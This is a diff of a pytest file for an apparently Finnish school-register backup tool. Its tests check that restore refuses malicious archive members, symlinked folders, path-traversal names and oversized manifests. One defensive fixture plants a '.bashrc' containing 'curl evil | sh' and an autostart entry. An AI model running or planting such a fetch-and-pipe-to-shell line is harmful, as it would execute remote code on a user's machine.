@@ -47,6 +47,11 @@ def run_backup(register: Path, to: Path, *extra: str) -> int:
     return main(["backup", str(register), "--to", str(to), "--as-of", AS_OF, *extra])
 
 
+def contents_of(made: Path) -> dict[str, bytes]:
+    with backup.open_backup(made, PASSWORD) as reader:
+        return {item["path"]: reader.read(item) for item in reader.files}
+
+
 def only_backup(folder: Path) -> Path:
     made = sorted(folder.glob("*.zip"))
     assert len(made) == 1, made
@@ -71,22 +76,21 @@ def test_backup_is_encrypted_and_names_no_one(register, tmp_path, password):
         assert all(info.flag_bits & 0x1 for info in zf.infolist())
         with pytest.raises((RuntimeError, NotImplementedError)):
             zf.read("data/0000")
-    with pytest.raises(Refused, match="Väärä salasana"):
-        backup.read_backup(made, "väärä-salasana")
+    with pytest.raises(Refused, match="Väärä salasana"), backup.open_backup(made, "väärä-salasana") as reader:
+        reader.verify()
 
 
 def test_backup_reads_back_byte_identical(register, tmp_path, password):
     stick = tmp_path / "tikku"
     assert run_backup(register, stick, "--with-documents") == 0
-    contents = backup.read_backup(only_backup(stick), PASSWORD)
     document = register.parent / "todistukset" / "2025-001_Aino_Virtanen.docx"
-    assert contents.files == {"rekisteri.xlsx": register.read_bytes(),
-                              "todistukset/2025-001_Aino_Virtanen.docx": document.read_bytes()}
+    assert contents_of(only_backup(stick)) == {"rekisteri.xlsx": register.read_bytes(),
+                                               "todistukset/2025-001_Aino_Virtanen.docx": document.read_bytes()}
 
 
 def test_without_documents_only_the_register_is_kept(register, tmp_path, password):
     assert run_backup(register, tmp_path / "tikku") == 0
-    assert list(backup.read_backup(only_backup(tmp_path / "tikku"), PASSWORD).files) == ["rekisteri.xlsx"]
+    assert list(contents_of(only_backup(tmp_path / "tikku"))) == ["rekisteri.xlsx"]
 
 
 def test_restore_gives_back_the_same_bytes_with_mode_0600(register, tmp_path, password):
@@ -444,3 +448,141 @@ def test_documents_named_but_missing_are_reported(register, tmp_path, password, 
     (register.parent / "todistukset" / "2025-001_Aino_Virtanen.docx").unlink()
     assert run_backup(register, tmp_path / "tikku", "--with-documents") == 0
     assert "1 Todistukset-välilehden asiakirjaa puuttuu" in capsys.readouterr().err
+
+
+# --- restore writes only the register and its certificates, never through a link, in bounded memory ----------
+
+def hand_made_backup(path: Path, files: list[tuple[str, str, bytes]], register: str = "rekisteri.xlsx",
+                     sizes: dict[str, int] | None = None) -> Path:
+    """A backup in muskari's format with these (path, role, bytes); ``sizes`` overrides what the manifest says."""
+    import hashlib
+
+    import pyzipper
+
+    manifest = {"format": backup.FORMAT, "version": 1, "created": "2026-01-01T00:00:00", "register": register,
+                "files": [{"member": f"data/{i:04d}", "path": rel, "role": role,
+                           "size": (sizes or {}).get(rel, len(data)), "sha256": hashlib.sha256(data).hexdigest()}
+                          for i, (rel, role, data) in enumerate(files)]}
+    with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
+        zf.setpassword(PASSWORD.encode())
+        zf.writestr("manifest.json", json.dumps(manifest))
+        for item, (_rel, _role, data) in zip(manifest["files"], files, strict=True):
+            zf.writestr(item["member"], data)
+    return path
+
+
+def test_restore_writes_only_the_register_and_the_documents_under_todistukset(register, tmp_path, password, capsys):
+    files = [("rekisteri.xlsx", "register", register.read_bytes()),
+             ("todistukset/2025-001_Aino_Virtanen.docx", "document", b"todistus"),
+             (".bashrc", "document", b"curl evil | sh"),
+             (".config/autostart/muskari.desktop", "document", b"[Desktop Entry]"),
+             ("todistukset/.piilo", "document", b"x"),
+             ("muut/oma.docx", "document", b"oma")]
+    made = hand_made_backup(tmp_path / "pahaa.zip", files)
+    target = tmp_path / "koti"
+    assert backup_restore_cli(made, target) == 0
+    err = capsys.readouterr().err
+    written = sorted(p.relative_to(target).as_posix() for p in target.rglob("*") if p.is_file())
+    assert written == ["rekisteri.xlsx", "todistukset/2025-001_Aino_Virtanen.docx"]
+    assert "4 varmuuskopion tiedostoa jätettiin palauttamatta" in err and ".bashrc" in err
+
+
+def test_restore_never_writes_through_a_linked_folder(register, tmp_path, password, capsys):
+    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", register.read_bytes()),
+                                                 ("todistukset/a.docx", "document", b"todistus")])
+    elsewhere = tmp_path / "muualla"
+    elsewhere.mkdir()
+    target = tmp_path / "koti"
+    target.mkdir()
+    (target / "todistukset").symlink_to(elsewhere, target_is_directory=True)
+    assert backup_restore_cli(made, target, "--force") == 3
+    assert "linkin kautta" in capsys.readouterr().err
+    assert list(elsewhere.iterdir()) == [] and not (target / "rekisteri.xlsx").exists()
+
+
+def test_the_folders_restore_makes_are_private(register, tmp_path, password):
+    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", register.read_bytes()),
+                                                 ("todistukset/vuosi/a.docx", "document", b"todistus")])
+    target = tmp_path / "uusi" / "kansio"
+    restore.restore_backup(made, target, PASSWORD)
+    for folder in (tmp_path / "uusi", target, target / "todistukset", target / "todistukset" / "vuosi"):
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
+
+
+@pytest.mark.parametrize("role, declared", [("register", 2_500 * 1024**2), ("document", 2_500 * 1024**2)])
+def test_a_backup_that_says_it_unpacks_to_gigabytes_is_refused_before_decrypting(tmp_path, role, declared):
+    files = [("rekisteri.xlsx", "register", b"r"), ("todistukset/a.docx", "document", b"d")]
+    rel = "rekisteri.xlsx" if role == "register" else "todistukset/a.docx"
+    made = hand_made_backup(tmp_path / "b.zip", files, sizes={rel: declared})
+    with pytest.raises(FileProblem, match="liian suuri"):
+        restore.restore_backup(made, tmp_path / "r", PASSWORD)
+    assert not (tmp_path / "r").exists()
+
+
+def test_a_member_longer_than_its_manifest_is_damage_and_leaves_nothing(tmp_path):
+    from toolkit.model.errors import VerificationFailed
+
+    made = hand_made_backup(tmp_path / "b.zip", [("rekisteri.xlsx", "register", b"r" * 100)])
+    with backup.open_backup(made, PASSWORD) as reader:
+        lying = dict(reader.files[0], size=10)
+        with pytest.raises(VerificationFailed):
+            reader.extract(lying, open(tmp_path / "ulos", "wb"))  # noqa: SIM115
+
+
+@pytest.mark.parametrize("name", ["../rekisteri.xlsx", "kansio/rekisteri.xlsx", ".bashrc"])
+def test_a_register_name_that_is_a_path_is_refused(tmp_path, name):
+    made = hand_made_backup(tmp_path / "b.zip", [(name, "register", b"r")], register=name)
+    with pytest.raises((FileProblem, Refused)):
+        restore.restore_backup(made, tmp_path / "r", PASSWORD)
+    assert not [p for p in tmp_path.rglob("*") if p.is_file() and p.name != "b.zip"]
+
+
+@pytest.mark.slow
+def test_restore_streams_a_big_member_in_bounded_memory(tmp_path, password):
+    """A 256 MB register member (a few hundred kB of backup): restored with a peak no bigger than a tiny one's
+    plus a little, where reading it whole would take the member's size at least twice."""
+    import hashlib
+    import os
+    import sys
+
+    import pyzipper
+    from memory import peak_rss
+
+    size, chunk = 256 * 1024**2, b"\0" * (1 << 20)
+    digest = hashlib.sha256()
+    for _ in range(size // len(chunk)):
+        digest.update(chunk)
+    big = tmp_path / "iso.zip"
+    manifest = {"format": backup.FORMAT, "version": 1, "created": "2026-01-01T00:00:00",
+                "register": "rekisteri.xlsx", "files": [{"member": "data/0000", "path": "rekisteri.xlsx",
+                                                         "role": "register", "size": size,
+                                                         "sha256": digest.hexdigest()}]}
+    with pyzipper.AESZipFile(big, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
+        zf.setpassword(PASSWORD.encode())
+        zf.writestr("manifest.json", json.dumps(manifest))
+        info = zf.zipinfo_cls("data/0000", date_time=(2000, 1, 1, 0, 0, 0))
+        info.compress_type = pyzipper.ZIP_DEFLATED
+        with zf.open(info, "w", force_zip64=True) as out:
+            for _ in range(size // len(chunk)):
+                out.write(chunk)
+    small = hand_made_backup(tmp_path / "pieni.zip", [("rekisteri.xlsx", "register", b"\0" * 1024)])
+    env = {**os.environ, backup.PASSWORD_ENV: PASSWORD}
+    peaks = {}
+    for name, made in (("small", small), ("big", big)):
+        code, _out, err, peaks[name] = peak_rss([sys.executable, "-m", "toolkit", "restore", str(made), "--to",
+                                                 str(tmp_path / name)], env=env)
+        assert code == 0, err
+    assert (tmp_path / "big" / "rekisteri.xlsx").stat().st_size == size
+    assert peaks["big"] - peaks["small"] < 64, peaks
+
+
+@pytest.mark.parametrize("name", ["todistukset/" + "ä" * 200 + ".docx", "todistukset/a:b?*\\c.docx",
+                                  "todistukset/" + "x" * 5000 + "/a.docx"], ids=["300-bytes", "odd-characters", "deep"])
+def test_backup_with_documents_survives_any_tiedosto_name(tmp_path, password, capsys, name):
+    tables = make_tables(students=[student(id="0001")], certificates=[certificate("2025-001", "0001", file=name)])
+    folder = tmp_path / "koulu"
+    folder.mkdir()
+    path = build_register(folder / "rekisteri.xlsx", tables)
+    assert run_backup(path, tmp_path / "tikku", "--with-documents") == 0
+    err = capsys.readouterr().err
+    assert "Traceback" not in err and "1 Todistukset-välilehden asiakirjaa puuttuu" in err
